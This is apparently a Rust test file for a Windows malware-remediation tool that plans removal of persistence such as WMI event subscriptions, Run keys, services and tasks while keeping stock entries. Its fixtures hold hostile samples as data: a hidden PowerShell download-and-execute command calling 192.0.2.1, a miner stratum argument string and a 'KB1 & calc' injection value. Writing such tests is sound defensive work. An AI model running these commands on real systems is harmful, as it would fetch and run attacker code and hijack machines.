mod updates;
mod whole;

use super::*;
use crate::apply::test_support::{add_stock, infected, intel, object, plan_of, steps};
use detect::Assessment;
use detect::assessment::{Action as Advice, Confidence, Finding, Kind, Severity, State, Verdict};
use evidence::{
    Area, Coverage, Evidence, Host, Location, NameSource, Provenance, ReadState, Record, RecordData, Source,
    WmiObject,
};
use serde_json::{Map, Value as Json, json};

/// Evidence of subscriptions, read completely from one listing.
fn evidence(objects: impl IntoIterator<Item = WmiObject>) -> Evidence {
    let mut coverage = Coverage::default();
    for area in [Area::EventFilters, Area::EventConsumers, Area::Bindings] {
        coverage.add(area, ReadState::Complete);
    }
    let provenance = Provenance { source: 0, location: Location::Whole };
    let records =
        objects.into_iter().map(|object| Record { provenance, data: RecordData::WmiObject(object) });
    Evidence {
        host: Host::named("PC-1", NameSource::Record),
        sources: vec![Source {
            path: "PC-1_WMI.zip".into(),
            member: Some("EventConsumer.txt".into()),
            sha256: Some("00".repeat(32)),
            length: 1,
            format: "wmic-list".into(),
        }],
        records: records.collect(),
        coverage,
        ..Evidence::default()
    }
}

/// The subscription that every Windows has, as a listing shows it.
fn stock() -> Vec<WmiObject> {
    let mut state = machine::memory::State::default();
    add_stock(&mut state);
    let space = state.namespaces.remove(r"root\subscription").unwrap();
    space.instances.into_values().map(|instance| instance.object).collect()
}

fn bad(filter: &str) -> Vec<WmiObject> {
    let command = "powershell -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\"";
    vec![
        object("CommandLineEventConsumer", &[("Name", "C"), ("CommandLineTemplate", command)]),
        object(
            "__FilterToConsumerBinding",
            &[
                ("Filter", &format!("\\\\.\\root\\subscription:__EventFilter.Name=\"{filter}\"")),
                ("Consumer", "CommandLineEventConsumer.Name=\"C\""),
            ],
        ),
    ]
}

fn names(plan: &Plan) -> Vec<String> {
    plan.actions.iter().map(|action| format!("{:?} {}", action.verb, action.target.name())).collect()
}

fn reasons(plan: &Plan) -> Vec<&str> {
    plan.refused.iter().map(|refusal| refusal.why.id.as_str()).collect()
}

fn planned(evidence: &Evidence) -> Plan {
    plan(&detect::assess(evidence, intel()), intel(), &Choice::default())
}

#[test]
fn a_subscription_goes_binding_first_and_the_stock_one_is_not_touched() {
    let filter = object(
        "__EventFilter",
        &[("Name", "F"), ("Query", "SELECT * FROM __InstanceCreationEvent WITHIN 60")],
    );
    let plan = planned(&evidence(stock().into_iter().chain(bad("F")).chain([filter])));
    insta::assert_snapshot!(names(&plan).join("\n"), @r#"
    Remove root\subscription:__FilterToConsumerBinding.Consumer="CommandLineEventConsumer.Name="C"",Filter="__EventFilter.Name="F""
    Remove root\subscription:CommandLineEventConsumer.Name="C"
    Remove root\subscription:__EventFilter.Name="F"
    "#);
    assert_eq!(plan.refused, []);
    assert!(plan.actions[2].precondition.unbound && plan.actions.iter().all(|action| action.on_content));
    assert_eq!(plan.evidence[0].source, "PC-1_WMI.zip!EventConsumer.txt");
    assert_eq!(plan.validate(), Ok(()));
}

#[test]
fn the_stock_filter_stays_though_a_bad_consumer_is_bound_to_it() {
    let plan = planned(&evidence(stock().into_iter().chain(bad("SCM Event Log Filter"))));
    assert_eq!(reasons(&plan), ["refuse-stock"]);
    assert!(
        names(&plan)
            .iter()
            .all(|name| !name.contains("__EventFilter.Name=\"SCM") || name.contains("Binding")),
        "{:?}",
        names(&plan)
    );
    assert_eq!(plan.actions.len(), 2);
}

#[test]
fn no_choice_plans_a_stock_entry() {
    let mut assessment = detect::assess(&evidence(stock()), intel());
    for object in stock() {
        let mut finding = finding(Kind::Orphan, Advice::Remove, &json!({}));
        let mut fields = Map::new();
        fields.insert("__CLASS".into(), object.class.clone().into());
        for property in &object.properties {
            fields.insert(property.name.as_str().into(), serde_json::to_value(&property.value).unwrap());
        }
        finding.id = object.class.clone();
        finding.subject.insert("object".into(), Json::Object(fields));
        assessment.findings.push(finding);
    }
    let include = assessment.findings.iter().map(|finding| finding.id.clone()).collect();
    let plan = plan(&assessment, intel(), &Choice { include, ..Choice::default() });
    assert_eq!(plan.actions, []);
    assert_eq!(reasons(&plan), ["refuse-stock"; 3]);
}

/// After the first line of the published removal script, the stock filter is gone: it comes back, with the payload's removal.
#[test]
fn a_missing_stock_entry_is_offered_to_be_made_anew() {
    let without_filter = stock().into_iter().filter(|object| !object.is_filter());
    let plan = planned(&evidence(without_filter));
    assert_eq!(names(&plan), ["Restore scm-event-log"]);
    assert_eq!(plan.validate(), Ok(()));
}

fn finding(kind: Kind, advice: Advice, subject: &Json) -> Finding {
    Finding {
        id: "0123456789abcdef".into(),
        kind,
        severity: Severity::High,
        confidence: Confidence::Certain,
        title: evidence::Message::new("title"),
        reasons: Vec::new(),
        family: None,
        attack: Vec::new(),
        subject: subject.as_object().cloned().unwrap_or_default(),
        name: "name".into(),
        decoded: Vec::new(),
        action: advice,
        evidence: Vec::new(),
    }
}

fn assessment(findings: Vec<Finding>) -> Assessment {
    let mut assessment = detect::assess(&Evidence::default(), intel());
    assessment.host = Host::named("PC-1", NameSource::Record);
    assessment.verdict = Verdict::Infected;
    assessment.findings = findings;
    assessment
}

const START_UP: &str = r"C:\Users\me\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup";

fn one(kind: Kind, subject: &Json) -> Plan {
    let plan = plan(&assessment(vec![finding(kind, Advice::Remove, subject)]), intel(), &Choice::default());
    assert_eq!(plan.validate(), Ok(()), "{plan:#?}");
    plan
}

#[test]
fn every_kind_of_finding_becomes_its_steps() {
    let run = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run";
    let winlogon = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell";
    let services = r"HKLM\System\CurrentControlSet\Services";
    let sha = "AB".repeat(32);
    let cases = [
        (
            Kind::Run,
            json!({"Entry Location": run, "Entry": "x", "Launch String": "a.exe", "Image Path": r"C:\x\a.exe", "SHA-256": sha}),
        ),
        (
            Kind::Autostart,
            json!({"Entry Location": winlogon, "Entry": "evil.exe", "Launch String": "evil.exe"}),
        ),
        (
            Kind::Task,
            json!({"Entry Location": "Task Scheduler", "Entry": r"\x", "Launch String": "a.exe -b"}),
        ),
        (
            Kind::Task,
            json!({"Path": r"\y", "Actions": [{"kind": "exec", "command": "a.exe", "arguments": "-b"}]}),
        ),
        (Kind::Service, json!({"Entry Location": services, "Entry": "svc", "Launch String": r"C:\x\a.exe"})),
        (
            Kind::Service,
            json!({"Entry Location": services, "Entry": "Schedule", "Image Path": r"C:\x\evil.dll"}),
        ),
        (Kind::Driver, json!({"Entry Location": services, "Entry": "drv", "Launch String": r"C:\x\a.sys"})),
        (
            Kind::Process,
            json!({"ProcessId": 100, "CreationDate": 7, "ExecutablePath": r"C:\x\a.exe", "CommandLine": "a"}),
        ),
        (
            Kind::Process,
            json!({"ProcessId": 100, "Instances": [
                {"ProcessId": 201, "CreationDate": 7, "ExecutablePath": r"C:\x\b.exe", "CommandLine": "b"},
                {"ProcessId": 202, "CreationDate": 8, "ExecutablePath": r"C:\x\b.exe", "CommandLine": "b"},
            ]}),
        ),
        (Kind::File, json!({"Path": r"C:\x\a.exe", "hashes": {"sha256": sha}})),
        (Kind::Setting, json!({"kind": "portproxy", "name": "0.0.0.0:57", "value": "192.0.2.1:80"})),
        (Kind::ClassStore, json!({"__CLASS": "Office_Updater", "__NAMESPACE": r"ROOT\Default", "mimi": "A"})),
        (
            Kind::ClassStore,
            json!({"object": {"__CLASS": "Own", "__NAMESPACE": r"root\default", "InstanceID": "7", "mimi": "A"}}),
        ),
        (Kind::Service, json!({"name": "VSS", "image_path": r"C:\x\a.exe"})),
        (
            Kind::Run,
            json!({"Entry Location": START_UP, "Entry": "x.vbs", "Image Path": format!(r"{START_UP}\x.vbs"), "SHA-256": sha}),
        ),
    ];
    let lines = cases.into_iter().flat_map(|(kind, subject)| names(&one(kind, &subject)));
    insta::assert_snapshot!("steps", lines.collect::<Vec<_>>().join("\n"));
}

#[test]
fn what_cannot_be_told_from_others_or_must_stay_is_refused_with_its_reason() {
    let winlogon = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon";
    let cases = [
        (Kind::Orphan, json!({"object": {"__CLASS": "", "Name": "x"}}), "refuse-class-unknown"),
        (Kind::Orphan, json!({"object": {"__CLASS": "__EventFilter"}}), "refuse-identity"),
        (Kind::ClassStore, json!({"__CLASS": "X"}), "refuse-namespace-unknown"),
        (
            Kind::ClassStore,
            json!({"__CLASS": "Win32_Process", "__NAMESPACE": r"root\cimv2"}),
            "refuse-stock-class",
        ),
        (
            Kind::ClassStore,
            json!({"__CLASS": "__EventFilter", "__NAMESPACE": r"root\x"}),
            "refuse-stock-class",
        ),
        (Kind::Process, json!({"ProcessId": 100, "ExecutablePath": r"C:\x\a.exe"}), "refuse-identity"),
        (
            Kind::Process,
            json!({"ProcessId": 100, "CreationDate": 7, "ExecutablePath": r"C:\Windows\System32\svchost.exe"}),
            "refuse-host-process",
        ),
        (
            Kind::File,
            json!({"Path": r"C:\Windows\System32\cmd.exe", "sha256": "00"}),
            "refuse-system-program",
        ),
        (Kind::File, json!({"Path": r"C:\x\a.exe"}), "refuse-identity"),
        (Kind::File, json!({"Path": r"C:\x\..\a.exe", "sha256": "00"}), "refuse-path"),
        (
            Kind::File,
            json!({"Path": r"C:\x\a.exe", "sha256": "00", "Signer": "(Verified) Microsoft Windows"}),
            "refuse-microsoft",
        ),
        (Kind::Service, json!({"Entry": "x"}), "refuse-identity"),
        (
            Kind::Autostart,
            json!({"Entry Location": winlogon, "Entry": "Taskman", "Launch String": "x"}),
            "refuse-by-hand",
        ),
        (Kind::Account, json!({}), "refuse-by-hand"),
        (Kind::Patch, json!({"Install": ["KB4012215"]}), "refuse-update"),
        (Kind::Patch, json!({"Install": ["KB1 & calc"]}), "refuse-by-hand"),
        (Kind::Patch, json!({}), "refuse-by-hand"),
        (Kind::StockMissing, json!({"entry": "bvt"}), "refuse-no-entry"),
        (
            Kind::Orphan,
            json!({"object": {"__CLASS": "__EventFilter", "Name": "x", "EventNamespace": "root/cimv2", "QueryLanguage": "WQL"}}),
            "refuse-name-only",
        ),
        (
            Kind::ClassStore,
            json!({"__CLASS": "Office_Updater", "__NAMESPACE": r"root\default", "__SUPERCLASS": "x", "mon": null}),
            "refuse-name-only",
        ),
        (
            Kind::ClassStore,
            json!({"object": {"__CLASS": "Own", "Name": "x", "p": "A"}}),
            "refuse-namespace-unknown",
        ),
        (
            Kind::ClassStore,
            json!({"object": {"__CLASS": "Own", "__NAMESPACE": r"root\default", "p": "A"}}),
            "refuse-identity",
        ),
        (
            Kind::Service,
            json!({"name": "Schedule", "image_path": r"C:\x\a.exe", "service_dll": r"%SystemRoot%\System32\schedsvc.dll"}),
            "refuse-no-stock-value",
        ),
        (
            Kind::Run,
            json!({"Entry Location": START_UP, "Entry": "x.exe", "Launch String": "x"}),
            "refuse-identity",
        ),
        (
            Kind::Run,
            json!({"Entry Location": START_UP, "Entry": "x.lnk", "Image Path": r"C:\x\a.exe", "SHA-256": "ab"}),
            "refuse-identity",
        ),
    ];
    for (kind, subject, reason) in cases {
        let plan = one(kind, &subject);
        assert_eq!((reasons(&plan), plan.actions.len()), (vec![reason], 0), "{subject}");
    }
}

/// What a Run value that starts this leads to.
fn run(command: &str, image: &str, reason: Option<&str>) -> Vec<String> {
    let key = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run";
    let subject = json!({"Entry Location": key, "Entry": "x", "Launch String": command, "Image Path": image, "SHA-256": "AB".repeat(32)});
    let mut finding = finding(Kind::Run, Advice::Remove, &subject);
    finding.reasons.extend(reason.map(evidence::Message::new));
    let content = deobfuscate::decode(command, None, &deobfuscate::Limits::default());
    finding.decoded.push(detect::assessment::DecodedScript {
        field: "Launch String".into(),
        layers: content.layers,
        indicators: content.indicators,
        traits: content.traits,
        problems: content.problems,
    });
    let plan = plan(&assessment(vec![finding]), intel(), &Choice::default());
    plan.actions.iter().filter(|a| matches!(a.target, Target::File { .. })).map(|a| a.target.name()).collect()
}

#[test]
fn a_program_that_only_does_what_bad_words_tell_it_stays() {
    let none: [&str; 0] = [];
    assert_eq!(run(r"C:\Perl\bin\perl.exe -e bad", r"C:\Perl\bin\perl.exe", None), none);
    assert_eq!(run(r"C:\x\AutoHotkeyU64.exe", r"C:\x\AutoHotkeyU64.exe", Some("reason-disguised")), none);
    assert_eq!(run(r"C:\Users\me\python3.11.exe x.py", r"C:\Users\me\python3.11.exe", None), none);
    assert_eq!(run(r"C:\Users\me\tool.exe /c bad", r"C:\Users\me\tool.exe", None), none);
    assert_eq!(run(r"C:\Program Files\Own\a.exe", r"C:\Program Files\Own\a.exe", None), none);
    let mining = "-o stratum+tcp://192.0.2.1:3333 -u x --donate-level 1 -k";
    assert_eq!(run(&format!(r"C:\Python27\python.exe {mining}"), r"C:\Python27\python.exe", None), none);
    // What speaks against the file itself.
    let bad = r"C:\Users\me\shell.exe";
    assert_eq!(run(&format!("\"{bad}\""), bad, None), [bad]);
    assert_eq!(run(&format!("{bad} {mining}"), bad, None), [bad]);
    assert_eq!(run(&format!("{bad} -k x"), bad, Some("reason-disguised")), [bad]);
    let library = r"C:\Users\me\x.dll";
    assert_eq!(run(r"C:\Windows\System32\svchost.exe -k netsvcs", library, None), [library]);
}

#[test]
fn each_address_of_a_name_in_the_hosts_file_is_an_action_of_its_own() {
    let entry = |address: &str| {
        finding(
            Kind::Setting,
            Advice::Remove,
            &json!({"Kind": "hosts-entry", "Name": "x.example", "Value": address}),
        )
    };
    let mut findings = vec![entry("192.0.2.1"), entry("192.0.2.2")];
    findings[1].id = "f".into();
    let plan = plan(&assessment(findings), intel(), &Choice::default());
    assert_eq!(
        names(&plan),
        ["Remove hosts-entry 192.0.2.1 x.example", "Remove hosts-entry 192.0.2.2 x.example"]
    );
    assert_eq!(plan.validate(), Ok(()));
}

/// An entry that is only known from a description, and an object that is it in every field.
#[test]
fn nothing_plans_what_is_hearsay_and_the_same_in_every_field() {
    let baseline = r#"
        schema = "deminer.baseline/1"
        name = "own"
        sources = [{ id = "lab", title = "t" }]
        [[entries]]
        id = "own-timer"
        kind = "vendor"
        standing = "hearsay"
        sources = ["lab"]
        namespace = 'root\subscription'
        timer = { class = "__IntervalTimerInstruction", name = "Own", fields = { IntervalBetweenEvents = 60000 } }
    "#;
    let own = intel::Baseline::from_toml("own.toml", baseline).unwrap();
    let intel = intel().clone().with_baseline(own);
    let step = |interval: u64| {
        let timer = json!({"__CLASS": "__IntervalTimerInstruction", "__NAMESPACE": r"root\subscription", "TimerId": "Own", "IntervalBetweenEvents": interval, "SkipIfPassed": false});
        let all = assessment(vec![finding(Kind::Orphan, Advice::Remove, &json!({"object": timer}))]);
        let include = all.findings.iter().map(|finding| finding.id.clone()).collect();
        let plan = plan(&all, &intel, &Choice { include, ..Choice::default() });
        (plan.actions.len(), reasons(&plan).join(" "))
    };
    assert_eq!(step(60_000), (0, "refuse-stock".to_owned()));
    assert_eq!(step(1_000), (1, String::new()));
}

/// The fields that must be as they were, for each step.
fn conditions(kind: Kind, subject: &Json) -> Vec<String> {
    let fields = |action: &crate::Action| {
        let fields = action.precondition.fields.iter();
        fields.map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>().join(", ")
    };
    let plan = one(kind, subject);
    plan.actions.iter().map(|action| format!("{:?}: {}", action.verb, fields(action))).collect()
}

#[test]
fn the_precondition_has_every_field_that_the_evidence_gives() {
    let services = r"HKLM\System\CurrentControlSet\Services";
    let winlogon = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon";
    let service = json!({"name": "x", "display_name": "X", "service_type": 16, "start": 2, "image_path": "a.exe", "account": "LocalSystem", "running": true});
    let cases = [
        (Kind::Service, service),
        // What a log says of a service, and what a listing does.
        (
            Kind::Service,
            json!({"name": "x", "service_type": 16, "start": 2, "image_path": "a.exe", "account": "LocalSystem"}),
        ),
        (
            Kind::Service,
            json!({"Entry Location": services, "Entry": "x", "Launch String": "a.exe", "Description": "d"}),
        ),
        (
            Kind::Task,
            json!({"path": r"\y", "actions": [{"kind": "exec", "command": "a", "arguments": "-b"}, {"kind": "com-handler", "class_id": "{1}", "data": null}]}),
        ),
        (Kind::Task, json!({"Entry": r"\y", "Launch String": "a -b"})),
        (
            Kind::ClassStore,
            json!({"__CLASS": "S", "__NAMESPACE": r"root\default", "mon": "A", "Empty": null}),
        ),
        (
            Kind::ClassStore,
            json!({"__CLASS": "S", "__NAMESPACE": r"root\default", "__SUPERCLASS": "T", "mon": "A"}),
        ),
        (
            Kind::Setting,
            json!({"Kind": "portproxy", "Name": "0.0.0.0:5", "Value": "192.0.2.1:6", "families": "v4tov4"}),
        ),
        (
            Kind::Setting,
            json!({"Kind": "registry-value", "Key": r"HKLM\SOFTWARE\X", "Value Name": "", "Type": "REG_SZ", "Data": "A"}),
        ),
        // The whole value, and one program of it.
        (
            Kind::Autostart,
            json!({"Entry Location": winlogon, "Entry": "Shell", "Launch String": "explorer.exe,x"}),
        ),
        (
            Kind::Autostart,
            json!({"Entry Location": format!(r"{winlogon}\Shell"), "Entry": "x", "Launch String": "x"}),
        ),
    ];
    let lines = cases.iter().flat_map(|(kind, subject)| conditions(*kind, subject));
    insta::assert_snapshot!("conditions", lines.collect::<Vec<_>>().join("\n"));
}

#[test]
fn what_a_named_process_has_started_ends_with_it_but_never_a_host_of_windows() {
    let process = |pid: u32, parent: u32, path: &str| json!({"ProcessId": pid, "ParentProcessId": parent, "CreationDate": 7, "ExecutablePath": path, "CommandLine": "c"});
    let mut subject = process(100, 1, r"C:\x\a.exe");
    subject["Descendants"] = json!([
        process(101, 100, r"C:\x\b.exe"),
        process(102, 100, r"C:\Windows\System32\svchost.exe"),
        process(103, 101, r"C:\Windows\System32\cmd.exe"),
        process(104, 102, r"C:\Program Files\Own\own.exe"),
    ]);
    let plan = one(Kind::Process, &subject);
    assert_eq!(plan.refused, []);
    let ended = plan.actions.iter().filter(|action| action.verb == Verb::End);
    let mut pids: Vec<_> = ended.filter_map(|action| Some(action.target.process_id()?.pid)).collect();
    pids.sort_unstable();
    assert_eq!((pids, plan.actions.len()), (vec![100, 101, 103], 6));
}

#[test]
fn processes_end_before_the_service_that_they_serve_is_told_to_stop() {
    let order: Vec<_> =
        plan_of(steps()).actions.iter().map(|action| (action.verb, action.target.clone())).collect();
    let place = |is: fn(&Target) -> bool| {
        order.iter().position(|(verb, target)| *verb == Verb::End && is(target)).unwrap()
    };
    let (process, service) =
        (place(|t| matches!(t, Target::Process { .. })), place(|t| matches!(t, Target::Service { .. })));
    let disabled = order.iter().position(|(verb, _)| *verb == Verb::Disable).unwrap();
    assert!(disabled < process && process < service, "a stopped process does not answer");
}

#[test]
fn subclasses_go_before_the_classes_that_they_derive_from() {
    let class = |name: &str, above: &str| {
        finding(
            Kind::ClassStore,
            Advice::Remove,
            &json!({"__CLASS": name, "__NAMESPACE": r"root\x", "__SUPERCLASS": above, "p": "A"}),
        )
    };
    let all = assessment(vec![class("A", ""), class("B", "A"), class("C", "b"), class("D", "D")]);
    let plan = plan(&all, intel(), &Choice::default());
    let order: Vec<_> = plan.actions.iter().map(|action| action.target.name()).collect();
    let place = |name: &str| order.iter().position(|own| own.ends_with(name)).unwrap();
    assert!(place("C") < place("B") && place("B") < place("A"), "{order:?}");
}

#[test]
fn choices_are_followed_and_unknown_ones_are_said() {
    let review = finding(Kind::Task, Advice::Review, &json!({"Entry": r"\x", "Launch String": "a"}));
    let all = assessment(vec![review.clone()]);
    let ids = |text: &str| std::iter::once(text.to_owned()).collect();
    assert_eq!(plan(&all, intel(), &Choice::default()).actions, []);
    let chosen = plan(&all, intel(), &Choice { include: ids(&review.id), ..Choice::default() });
    assert_eq!((chosen.actions.len(), chosen.actions[0].on_content), (1, false));
    let both = Choice { include: ids(&review.id), exclude: ids(&review.id), ..Choice::default() };
    assert_eq!(reasons(&plan(&all, intel(), &both)), ["refuse-excluded"]);
    assert_eq!(
        reasons(&plan(&all, intel(), &Choice { include: ids("no"), ..Choice::default() })),
        ["refuse-no-finding"]
    );
}

#[test]
fn a_plan_survives_its_file() {
    let plan = plan_of(steps());
    assert_eq!(Plan::from_json(&plan.to_json()), Ok(plan));
}

#[test]
fn files_that_are_no_plan_or_were_changed_are_refused_in_words() {
    let plan = plan_of(steps());
    let error = |change: &dyn Fn(&mut Plan)| {
        let mut changed = plan.clone();
        change(&mut changed);
        Plan::from_json(&changed.to_json()).unwrap_err().to_string()
    };
    let retarget = |plan: &mut Plan, verb: Verb, target: Target| {
        plan.actions.truncate(1);
        plan.actions[0].id = Action::id_of(verb, &target);
        (plan.actions[0].verb, plan.actions[0].target) = (verb, target);
    };
    let lines = [
        Plan::from_json("{").unwrap_err().to_string(),
        Plan::from_json(r#"{"schema": "deminer.receipt/1"}"#).unwrap_err().to_string(),
        error(&|plan| plan.schema = "deminer.plan/2".into()),
        error(&|plan| plan.host.id.0 = " ".into()),
        error(&|plan| plan.actions[0].id = "000000000000".into()),
        error(&|plan| plan.actions.push(plan.actions[0].clone())),
        error(&|plan| plan.actions.swap(0, 9)),
        error(&|plan| plan.actions[1].precondition.fields.clear()),
        error(&|plan| {
            let filter = |action: &&mut Action| crate::apply::is_filter(&action.target);
            let filter = plan.actions.iter_mut().find(filter).unwrap();
            filter.precondition.fields.retain(|name, _| name != "Query");
        }),
        error(&|plan| retarget(plan, Verb::Remove, Target::Service { name: "x".into() })),
        error(&|plan| retarget(plan, Verb::Remove, Target::File { path: r"C:\x\..\y".into() })),
        error(&|plan| retarget(plan, Verb::Remove, Target::File { path: r"\\?\C:\y".into() })),
        error(&|plan| {
            retarget(plan, Verb::Remove, Target::RegistryValue { key: r"X\y".into(), name: String::new() });
        }),
        error(&|plan| retarget(plan, Verb::Disable, Target::Task { path: r"\a\..\b".into() })),
        error(&|plan| retarget(plan, Verb::Disable, Target::Service { name: r"a\b".into() })),
        error(&|plan| {
            retarget(plan, Verb::End, Target::Process { pid: 4, created: 0, image_path: r"C:\x".into() });
        }),
        error(&|plan| {
            retarget(plan, Verb::Remove, Target::WmiClass { namespace: r"ROOT\x".into(), class: "A".into() });
        }),
    ];
    insta::assert_snapshot!("errors", lines.join("\n"));
}

#[test]
fn plans_do_not_depend_on_the_order_of_findings() {
    let mut findings: Vec<_> = ["a", "b", "c"]
        .iter()
        .map(|name| finding(Kind::Task, Advice::Remove, &json!({"Entry": name, "Launch String": "x"})))
        .collect();
    let forward = plan(&assessment(findings.clone()), intel(), &Choice::default());
    findings.reverse();
    assert_eq!(plan(&assessment(findings), intel(), &Choice::default()), forward);
    assert_eq!(forward.patch, State::Unknown);
    assert!(!infected().tasks.is_empty());
}

proptest::proptest! {
    #[test]
    fn reading_a_plan_never_panics_and_what_is_read_is_valid(text in ".{0,200}", name in ".{0,20}") {
        let _ = Plan::from_json(&text);
        let mut plan = plan_of(steps());
        let target = Target::File { path: name };
        plan.actions.truncate(1);
        plan.actions[0].id = Action::id_of(Verb::Remove, &target);
        (plan.actions[0].verb, plan.actions[0].target) = (Verb::Remove, target.clone());
        if Plan::from_json(&plan.to_json()).is_ok() {
            proptest::prop_assert!(crate::guard::is_plain_path(&target.name()));
        }
    }
}
